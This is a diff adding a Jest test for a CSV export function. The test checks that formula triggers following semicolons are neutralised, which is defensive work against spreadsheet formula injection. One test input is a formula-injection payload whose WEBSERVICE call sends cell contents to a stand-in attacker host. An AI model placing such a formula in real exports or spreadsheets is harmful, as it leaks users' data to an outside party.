@@ -168,6 +168,13 @@ describe('exportCsv', () => {
     expect([row!.page_title, row!.quote, row!.prefix, row!.suffix, row!.note]).toEqual(["'-2+3", "'=1+1", "'@A1", "'\t=1", "'+1"]);
   });
 
+  it('neutralises a trigger after a semicolon, where a spreadsheet that splits lines on ";" starts a cell', () => {
+    const line = exportCsv([makeMention({ pageTitle: 'x;=WEBSERVICE("https://evil.example/?"&A1); +1;y' })], claimsById).split('\r\n')[1]!;
+    // Read as Excel does in a ";" locale: split at every semicolon. No part opens with a trigger, spaces trimmed.
+    expect(line.split(';').some((field) => /^\s*[=+\-@]/.test(field))).toBe(false);
+    expect(rows(exportCsv([makeMention({ pageTitle: 'a; =b;-c and d;e' })], claimsById))[0]!.page_title).toBe("a; '=b;'-c and d;e");
+  });
+
   it('neutralises a cell that starts with a carriage return', () => {
     const [row] = rows(exportCsv([makeMention({ pageTitle: '\r=1+1' })], claimsById));
     expect(row!.page_title).toBe("'\r=1+1");
